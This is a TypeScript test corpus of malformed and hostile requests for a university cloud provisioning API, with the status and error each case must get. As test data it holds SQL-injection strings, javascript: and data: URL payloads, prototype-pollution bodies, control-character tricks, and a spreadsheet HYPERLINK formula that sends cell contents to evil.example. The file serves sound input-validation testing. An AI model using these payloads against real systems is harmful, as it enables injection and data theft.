/* eslint no-script-url: "off" -- the addresses refused are the point */
/*
 * The bad-input corpus of the cloud API: requests an outside tester (or a
 * careless client) sends to every write route and query parameter. Each
 * case gives what the API must answer: the status, the field the error
 * message names, and — checked by badInputs.test.ts — that no row of any
 * cloud table changed.
 *
 * Tenants of the corpus: `sifac-0333298f-production` (Bordeaux, created by
 * the test before the cases run). Personas: claire (Bordeaux), julien
 * (Lille), sophie (SIFAC product owner).
 */

import { uaiCheckLetter } from '@amue/plugin-cloud-common';

/** One bad request and the answer it must get. */
export interface BadInput {
  /** What is wrong, in words. */
  name: string;
  method: 'GET' | 'POST' | 'PUT';
  /** Path under /api/cloud. */
  path: string;
  /** Query parameters (a list repeats the parameter). */
  query?: Record<string, string | string[]>;
  /** The persona who sends it. */
  as: 'claire' | 'julien' | 'sophie';
  /** The JSON body; `rawBody` sends text as is. */
  body?: unknown;
  rawBody?: string;
  contentType?: string;
  headers?: Record<string, string>;
  /** Expected status. */
  status: number;
  /** A text the error message must hold: the field (and rule). */
  field: string;
}

export const TENANT = 'sifac-0333298f-production';
const BORDEAUX = '0333298F';
const LILLE = '0597239Y';

/** A valid request body for Lille (sent by julien), to spoil one field at a time. */
function lilleRequest(overrides: Record<string, unknown> = {}) {
  return {
    application: 'sifac',
    uai: LILLE,
    environment: 'formation',
    version: '2026.2',
    sso: {
      protocol: 'saml',
      idpEntityId: 'https://idp.univ-lille.fr/idp/shibboleth',
    },
    request: {
      migration: true,
      expectedUsers: 100,
      contacts: [{ name: 'Julien Lefebvre', email: 'julien@univ-lille.fr' }],
    },
    ...overrides,
  };
}

const request = (overrides: Record<string, unknown>) =>
  lilleRequest({
    request: {
      ...(lilleRequest().request as object),
      ...overrides,
    },
  });

const NUL = '\u0000';
const RLO = '\u202e';
const FULLWIDTH_UAI = '０５９７２３９Ｙ';
const SQL = "x'); DROP TABLE cloud_tenants; --";
const CSV_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"clic")';

/** A body nested `depth` levels deep. */
function deep(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) {
    value = { a: value };
  }
  return value;
}

const cursorOf = (value: unknown) =>
  Buffer.from(JSON.stringify(value), 'utf8').toString('base64url');
const UUID = '7f1b6a47-2a5b-4f1f-9d2a-0c8f3f2f0001';

const createCases: BadInput[] = [
  // types
  ['application as a number', { application: 42 }, 'application'],
  ['uai as a list', { uai: [LILLE] }, 'uai'],
  ['environment as null', { environment: null }, 'environment'],
  ['version as an object', { version: { v: 1 } }, 'version'],
  ['request as a string', { request: 'please' }, 'request'],
  ['migration as a string', { request: { migration: 'yes' } }, 'migration'],
  [
    'expectedUsers as a string',
    request({ expectedUsers: '100' }),
    'expectedUsers',
  ],
  [
    'expectedUsers as a float',
    request({ expectedUsers: 10.5 }),
    'expectedUsers',
  ],
  ['expectedUsers negative', request({ expectedUsers: -1 }), 'expectedUsers'],
  ['expectedUsers huge', request({ expectedUsers: 1e12 }), 'expectedUsers'],
  ['contacts as an object', request({ contacts: { name: 'x' } }), 'contacts'],
  [
    '21 contacts',
    request({
      contacts: Array.from({ length: 21 }, (_, i) => ({
        name: `c${i}`,
        email: `c${i}@univ-lille.fr`,
      })),
    }),
    'contacts',
  ],
  ['a contact without e-mail', request({ contacts: [{ name: 'X' }] }), 'email'],
  [
    'a contact e-mail without domain',
    request({ contacts: [{ name: 'X', email: 'x@' }] }),
    'email',
  ],
  [
    'sso without protocol',
    { sso: { idpEntityId: 'https://idp.univ-lille.fr/idp/shibboleth' } },
    'protocol',
  ],
  [
    'an unknown sso protocol',
    {
      sso: {
        protocol: 'cas',
        idpEntityId: 'https://idp.univ-lille.fr/idp/shibboleth',
      },
    },
    'protocol',
  ],
  ['idempotencyKey too short', { idempotencyKey: 'abc' }, 'idempotencyKey'],
  // unknown fields and prototype pollution
  ['an unknown field', { colour: 'blue' }, 'colour'],
  ['an unknown field in request', request({ priority: 'high' }), 'priority'],
  [
    'an unknown field in a contact',
    request({
      contacts: [{ name: 'X', email: 'x@univ-lille.fr', admin: true }],
    }),
    'admin',
  ],
  [
    '__proto__ at the top',
    JSON.parse('{"__proto__": {"admin": true}}'),
    '__proto__',
  ],
  [
    'constructor.prototype',
    { constructor: { prototype: { admin: true } } },
    'constructor',
  ],
  [
    '__proto__ in request',
    { request: JSON.parse('{"migration": true, "__proto__": {"x": 1}}') },
    '__proto__',
  ],
  // text
  [
    'NUL in request.comment',
    request({ comment: `a${NUL}b` }),
    'request.comment',
  ],
  [
    'RTL override in request.comment',
    request({ comment: `facture${RLO}fdp.exe` }),
    'request.comment',
  ],
  [
    'NUL in a contact name',
    request({ contacts: [{ name: `X${NUL}`, email: 'x@univ-lille.fr' }] }),
    'name',
  ],
  [
    'a line break in a contact role',
    request({
      contacts: [{ name: 'X', email: 'x@univ-lille.fr', role: 'DSI\nadmin' }],
    }),
    'role',
  ],
  ['NUL in version', { version: `2026.2${NUL}` }, 'version'],
  ['an oversized comment', request({ comment: 'x'.repeat(5001) }), 'comment'],
  ['an empty version', { version: '' }, 'version'],
  // identifiers
  ['a full-width UAI', { uai: FULLWIDTH_UAI }, 'uai'],
  ['a UAI with a wrong check letter', { uai: '0597239A' }, 'uai'],
  ['a UAI of 6 digits', { uai: '059723Y' }, 'uai'],
  ['a UAI with SQL', { uai: SQL }, 'uai'],
  ['an application with SQL', { application: SQL }, 'application'],
  ['an application in uppercase', { application: 'SIFAC' }, 'application'],
  ['a full-width application', { application: 'ｓｉｆａｃ' }, 'application'],
  ['an unknown application', { application: 'pegase' }, 'application "pegase"'],
  ['an unknown environment', { environment: 'staging' }, 'environment'],
  ['an unknown version', { version: '1999.1' }, 'version "1999.1"'],
  ['an end-of-life version', { version: '2024.1' }, 'version "2024.1"'],
  [
    'a UAI of no establishment',
    { uai: `0999999${uaiCheckLetter('0999999')}` },
    'uai',
  ],
  // dates
  [
    'a go-live date in the past',
    request({ wishedGoLiveDate: '2020-01-01' }),
    'wishedGoLiveDate',
  ],
  [
    'an impossible go-live date',
    request({ wishedGoLiveDate: '2030-02-30' }),
    'wishedGoLiveDate',
  ],
  [
    'a go-live date with time',
    request({ wishedGoLiveDate: '2030-01-01T00:00:00Z' }),
    'wishedGoLiveDate',
  ],
  [
    'a go-live date in French',
    request({ wishedGoLiveDate: '01/01/2030' }),
    'wishedGoLiveDate',
  ],
  // addresses
  ['a javascript: url', { url: 'javascript:alert(document.cookie)' }, 'url'],
  ['a JavaScript: url in mixed case', { url: 'JaVaScRiPt:alert(1)' }, 'url'],
  ['a data: url', { url: 'data:text/html;base64,PHNjcmlwdD4=' }, 'url'],
  ['a url with a space', { url: 'https://sifac univ-lille.fr' }, 'url'],
  [
    'a javascript: idpEntityId',
    { sso: { protocol: 'saml', idpEntityId: 'javascript:alert(1)' } },
    'sso.idpEntityId',
  ],
  [
    'a vbscript: idpEntityId',
    { sso: { protocol: 'saml', idpEntityId: 'vbscript:msgbox(1)' } },
    'sso.idpEntityId',
  ],
  [
    'an idpEntityId longer than SAML allows',
    {
      sso: {
        protocol: 'saml',
        idpEntityId: `https://idp.univ-lille.fr/${'x'.repeat(1100)}`,
      },
    },
    'sso.idpEntityId',
  ],
  // another establishment
  ['a request for Bordeaux by Lille', { uai: BORDEAUX }, 'etab-0333298f'],
].map(([name, overrides, field]) => ({
  name: `POST /requests: ${name}`,
  method: 'POST' as const,
  path: '/requests',
  as: 'julien' as const,
  body: lilleRequest(overrides as Record<string, unknown>),
  status: String(field).startsWith('etab-') ? 403 : 400,
  field: field as string,
}));

const wholeBodyCases: BadInput[] = [
  {
    name: 'POST /requests: a 20 MB body',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    rawBody: JSON.stringify(request({ comment: 'x'.repeat(20 * 1024 * 1024) })),
    contentType: 'application/json',
    status: 413,
    field: 'request body is larger than',
  },
  {
    name: 'POST /requests: text/plain',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    rawBody: JSON.stringify(lilleRequest()),
    contentType: 'text/plain',
    status: 415,
    field: 'Content-Type: application/json',
  },
  {
    name: 'POST /requests: form-encoded',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    rawBody: 'application=sifac&uai=0597239Y',
    contentType: 'application/x-www-form-urlencoded',
    status: 415,
    field: 'Content-Type: application/json',
  },
  {
    name: 'POST /requests: malformed JSON',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    rawBody: '{"application": "sifac",',
    contentType: 'application/json',
    status: 400,
    field: 'not valid JSON',
  },
  {
    name: 'POST /requests: a JSON array',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    body: [lilleRequest()],
    status: 400,
    field: 'body',
  },
  {
    name: 'POST /requests: JSON nested 10,000 levels',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    rawBody: `${'['.repeat(10000)}${']'.repeat(10000)}`,
    contentType: 'application/json',
    status: 400,
    field: 'body',
  },
  {
    name: 'POST /requests: JSON nested 40 levels in a field',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    body: { ...lilleRequest(), request: deep(40) },
    status: 400,
    field: 'nested more than',
  },
  {
    name: 'POST /requests: an empty body',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    status: 400,
    field: 'body',
  },
  {
    name: 'POST /requests: idempotency keys of header and body differ',
    method: 'POST',
    path: '/requests',
    as: 'julien',
    body: { ...lilleRequest(), idempotencyKey: 'body-key-0001' },
    headers: { 'Idempotency-Key': 'header-key-0001' },
    status: 400,
    field: 'idempotencyKey',
  },
];

/** A step, decision, version or decommission body spoiled one way. */
const tenantWrites: Array<
  [string, string, 'claire' | 'sophie', unknown, number, string]
> = [
  // steps
  [
    'steps/qualification',
    'an unknown action',
    'sophie',
    { action: 'explode', rowVersion: 1 },
    400,
    'action',
  ],
  [
    'steps/qualification',
    'rowVersion as a string',
    'sophie',
    { action: 'start', rowVersion: '1' },
    400,
    'rowVersion',
  ],
  [
    'steps/qualification',
    'rowVersion 0',
    'sophie',
    { action: 'start', rowVersion: 0 },
    400,
    'rowVersion',
  ],
  [
    'steps/qualification',
    'rowVersion beyond 32 bits',
    'sophie',
    { action: 'start', rowVersion: 1e20 },
    400,
    'rowVersion',
  ],
  [
    'steps/qualification',
    'no rowVersion',
    'sophie',
    { action: 'start' },
    400,
    'rowVersion',
  ],
  [
    'steps/qualification',
    'a NUL in the reason',
    'sophie',
    { action: 'block', reason: `r${NUL}`, rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'steps/qualification',
    'an RTL override in the reason',
    'sophie',
    { action: 'block', reason: `r${RLO}`, rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'steps/qualification',
    'an unknown field',
    'sophie',
    { action: 'start', rowVersion: 1, force: true },
    400,
    'force',
  ],
  [
    'steps/qualification',
    'a stale rowVersion',
    'sophie',
    { action: 'start', rowVersion: 99 },
    409,
    'changed by someone else',
  ],
  [
    'steps/qualification',
    'blocking without a reason',
    'sophie',
    { action: 'block', rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'steps/teleport',
    'an unknown step',
    'sophie',
    { action: 'start', rowVersion: 1 },
    400,
    'stepId',
  ],
  [
    'steps/qualification',
    'an Amue step by the establishment',
    'claire',
    { action: 'start', rowVersion: 1 },
    400,
    'qualification',
  ],
  // decision
  [
    'decision',
    'an unknown decision',
    'sophie',
    { decision: 'maybe', rowVersion: 1 },
    400,
    'decision',
  ],
  [
    'decision',
    'a rejection without reason',
    'sophie',
    { decision: 'reject', rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'decision',
    'a NUL in the reason',
    'sophie',
    { decision: 'reject', reason: `no${NUL}`, rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'decision',
    'a decision by the establishment',
    'claire',
    { decision: 'approve', rowVersion: 1 },
    403,
    'only Amue',
  ],
  [
    'decision',
    'rowVersion as a float',
    'sophie',
    { decision: 'approve', rowVersion: 1.5 },
    400,
    'rowVersion',
  ],
  // version
  [
    'version',
    'an unknown version',
    'sophie',
    { version: '1999.1', rowVersion: 1 },
    400,
    'version "1999.1"',
  ],
  [
    'version',
    'the same version',
    'sophie',
    { version: '2026.2', rowVersion: 1 },
    400,
    'version "2026.2"',
  ],
  [
    'version',
    'a NUL in the version',
    'sophie',
    { version: `2026.1${NUL}`, rowVersion: 1 },
    400,
    'version',
  ],
  [
    'version',
    'a version of 65 characters',
    'sophie',
    { version: '1'.repeat(65), rowVersion: 1 },
    400,
    'version',
  ],
  [
    'version',
    'a version as a number',
    'sophie',
    { version: 2026.1, rowVersion: 1 },
    400,
    'version',
  ],
  [
    'version',
    'SQL as the version',
    'sophie',
    { version: SQL, rowVersion: 1 },
    400,
    'version',
  ],
  // decommission
  ['decommission', 'no reason', 'sophie', { rowVersion: 1 }, 400, 'reason'],
  [
    'decommission',
    'an empty reason',
    'sophie',
    { reason: '', rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'decommission',
    'a NUL in the reason',
    'sophie',
    { reason: `end${NUL}`, rowVersion: 1 },
    400,
    'reason',
  ],
  [
    'decommission',
    'a stale rowVersion',
    'sophie',
    { reason: 'fin', rowVersion: 42 },
    409,
    'changed by someone else',
  ],
  // comments
  ['comments', 'an empty comment', 'claire', { comment: '' }, 400, 'comment'],
  ['comments', 'a blank comment', 'claire', { comment: '   ' }, 400, 'comment'],
  [
    'comments',
    'a comment as a list',
    'claire',
    { comment: ['a'] },
    400,
    'comment',
  ],
  [
    'comments',
    'a NUL in the comment',
    'claire',
    { comment: `a${NUL}b` },
    400,
    'comment',
  ],
  [
    'comments',
    'a BEL in the comment',
    'claire',
    { comment: 'a\u0007b' },
    400,
    'comment',
  ],
  [
    'comments',
    'an RTL override in the comment',
    'claire',
    { comment: `a${RLO}b` },
    400,
    'comment',
  ],
  [
    'comments',
    'a C1 control in the comment',
    'claire',
    { comment: 'a\u0085b' },
    400,
    'comment',
  ],
  [
    'comments',
    'a comment of 5001 characters',
    'claire',
    { comment: 'x'.repeat(5001) },
    400,
    'comment',
  ],
  [
    'comments',
    'an unknown step',
    'claire',
    { comment: 'a', stepId: 'nope' },
    400,
    'stepId',
  ],
  [
    'comments',
    'an unknown field',
    'claire',
    { comment: 'a', pinned: true },
    400,
    'pinned',
  ],
  [
    'comments',
    '__proto__',
    'claire',
    JSON.parse('{"comment": "a", "__proto__": {"x": 1}}'),
    400,
    '__proto__',
  ],
];

const tenantWriteCases: BadInput[] = tenantWrites.map(
  ([route, name, as, body, status, field]) => ({
    name: `POST /tenants/{name}/${route}: ${name}`,
    method: 'POST',
    path: `/tenants/${TENANT}/${route}`,
    as,
    body,
    status,
    field,
  }),
);

const putCases: BadInput[] = [
  [
    'funding',
    'paidEur above grantedEur',
    { grantedEur: 1000, paidEur: 2000, rowVersion: 1 },
    400,
    'paidEur',
  ],
  [
    'funding',
    'a negative grantedEur',
    { grantedEur: -1, paidEur: 0, rowVersion: 1 },
    400,
    'grantedEur',
  ],
  [
    'funding',
    'grantedEur as a string',
    { grantedEur: '1000', paidEur: 0, rowVersion: 1 },
    400,
    'grantedEur',
  ],
  [
    'funding',
    'grantedEur as a float',
    { grantedEur: 10.5, paidEur: 0, rowVersion: 1 },
    400,
    'grantedEur',
  ],
  [
    'funding',
    'grantedEur beyond the maximum',
    { grantedEur: 1e9, paidEur: 0, rowVersion: 1 },
    400,
    'grantedEur',
  ],
  ['funding', 'no paidEur', { grantedEur: 10, rowVersion: 1 }, 400, 'paidEur'],
  [
    'funding',
    'an unknown field',
    { grantedEur: 10, paidEur: 0, rowVersion: 1, currency: 'USD' },
    400,
    'currency',
  ],
  [
    'funding',
    'a stale rowVersion',
    { grantedEur: 10, paidEur: 0, rowVersion: 7 },
    409,
    'changed by someone else',
  ],
  [
    'training',
    'negative sessions',
    { sessionsHeld: -2, staffTrained: 0, rowVersion: 1 },
    400,
    'sessionsHeld',
  ],
  [
    'training',
    'staffTrained as null',
    { sessionsHeld: 1, staffTrained: null, rowVersion: 1 },
    400,
    'staffTrained',
  ],
  [
    'training',
    'sessionsHeld as a float',
    { sessionsHeld: 1.5, staffTrained: 1, rowVersion: 1 },
    400,
    'sessionsHeld',
  ],
  [
    'training',
    'a string rowVersion',
    { sessionsHeld: 1, staffTrained: 1, rowVersion: 'x' },
    400,
    'rowVersion',
  ],
].map(([route, name, body, status, field]) => ({
  name: `PUT /tenants/{name}/${route}: ${name}`,
  method: 'PUT' as const,
  path: `/tenants/${TENANT}/${route}`,
  as: 'sophie' as const,
  body,
  status: status as number,
  field: field as string,
}));

const pathCases: BadInput[] = [
  {
    name: 'POST /tenants/{name}/comments: a tenant name with SQL',
    method: 'POST',
    path: `/tenants/${encodeURIComponent(SQL)}/comments`,
    as: 'claire',
    body: { comment: 'a' },
    status: 400,
    field: 'name',
  },
  {
    name: 'POST /tenants/{name}/comments: a tenant of another establishment',
    method: 'POST',
    path: `/tenants/${TENANT}/comments`,
    as: 'julien',
    body: { comment: 'hello Bordeaux' },
    status: 404,
    field: TENANT,
  },
  {
    name: 'POST /tenants/{name}/comments: a NUL in the tenant name',
    method: 'POST',
    path: `/tenants/sifac%00-0333298f-production/comments`,
    as: 'claire',
    body: { comment: 'a' },
    status: 400,
    field: 'name',
  },
];

/** Query parameters of the reads, spoiled one at a time. */
const queries: Array<[string, Record<string, string | string[]>, string]> = [
  ['limit 0', { limit: '0' }, 'limit'],
  ['limit 501', { limit: '501' }, 'limit'],
  ['limit as text', { limit: 'ten' }, 'limit'],
  ['limit negative', { limit: '-1' }, 'limit'],
  ['limit twice', { limit: ['1', '2'] }, 'limit'],
  ['an unknown orderBy', { orderBy: 'uai; DROP TABLE x' }, 'orderBy'],
  ['an unknown order', { order: 'sideways' }, 'order'],
  ['an unknown status', { status: 'exploded' }, 'status'],
  ['an unknown environment', { environment: 'prod' }, 'environment'],
  ['an unknown currentStep', { currentStep: 'x' }, 'currentStep'],
  ['blocked as yes', { blocked: 'yes' }, 'blocked'],
  ['an unknown include', { include: 'events' }, 'include'],
  ['an unknown parameter', { colour: 'blue' }, 'colour'],
  ['SQL as establishment', { establishment: SQL }, 'establishment'],
  ['NUL in establishment', { establishment: `etab${NUL}` }, 'establishment'],
  ['NUL in application', { application: `sifac${NUL}` }, 'application'],
  ['garbage cursor', { cursor: '%%%garbage%%%' }, 'cursor'],
  [
    'cursor that is not JSON',
    { cursor: Buffer.from('nope').toString('base64url') },
    'cursor',
  ],
  [
    'cursor with a non-UUID id',
    { cursor: cursorOf({ o: 'name:asc', v: 'a', id: 'x' }) },
    'cursor',
  ],
  [
    'cursor with an invalid date',
    {
      orderBy: 'createdAt',
      cursor: cursorOf({ o: 'createdAt:asc', v: '2026-13-45', id: UUID }),
    },
    'cursor',
  ],
  [
    'cursor of another order',
    {
      orderBy: 'updatedAt',
      cursor: cursorOf({ o: 'name:asc', v: 'a', id: UUID }),
    },
    'cursor',
  ],
  [
    'cursor with SQL',
    { cursor: cursorOf({ o: 'name:asc', v: SQL, id: `${UUID}' OR '1'='1` }) },
    'cursor',
  ],
];

const queryCases: BadInput[] = [
  ...queries.map(([name, query, field]) => ({
    name: `GET /tenants: ${name}`,
    method: 'GET' as const,
    path: '/tenants',
    query,
    as: 'sophie' as const,
    status: 400,
    field,
  })),
  {
    name: 'GET /reports/adoption: an unknown format',
    method: 'GET',
    path: '/reports/adoption',
    query: { format: 'xlsx' },
    as: 'sophie',
    status: 400,
    field: 'format',
  },
  {
    name: 'GET /reports/adoption: an unknown view',
    method: 'GET',
    path: '/reports/adoption',
    query: { format: 'csv', view: 'everything' },
    as: 'sophie',
    status: 400,
    field: 'view',
  },
  {
    name: 'GET /reports/funnel: an unknown parameter',
    method: 'GET',
    path: '/reports/funnel',
    query: { since: '2020-01-01' },
    as: 'sophie',
    status: 400,
    field: 'since',
  },
  {
    name: 'GET /reports/nope: an unknown report',
    method: 'GET',
    path: '/reports/nope',
    as: 'sophie',
    status: 404,
    field: '',
  },
];

/** Every case of the corpus. */
export const badInputs: BadInput[] = [
  ...createCases,
  ...wholeBodyCases,
  ...tenantWriteCases,
  ...putCases,
  ...pathCases,
  ...queryCases,
];

/**
 * Text a user may legitimately type that a spreadsheet would run as a
 * formula: accepted by the API, neutralised in every CSV export.
 */
export const csvFormulas = [
  CSV_FORMULA,
  '+33 5 56 00 00 00',
  '-1+1',
  '@SUM(A1:A9)',
  '\t=1+1',
];
